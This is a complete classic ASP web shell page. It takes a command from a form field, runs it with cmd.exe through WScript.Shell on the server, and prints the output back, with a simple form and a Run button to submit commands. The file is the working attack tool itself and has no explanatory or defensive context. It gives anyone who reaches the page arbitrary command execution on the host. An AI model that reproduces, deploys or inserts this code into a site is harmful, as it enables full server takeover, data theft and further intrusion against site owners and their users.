<%
Set oS = Server.CreateObject("WSCRIPT.SHELL")
szCMD = Request.Form(".CMD")
If (szCMD <> "") Then
  Set oE = oS.Exec("cmd.exe /c " & szCMD)
  Response.Write(Server.HTMLEncode(oE.StdOut.ReadAll))
End If
%>
<FORM action="<%= Request.ServerVariables("URL") %>" method="POST">
<input type=text name=".CMD" size=45 value="<%= szCMD %>">
<input type=submit value="Run">
</FORM>
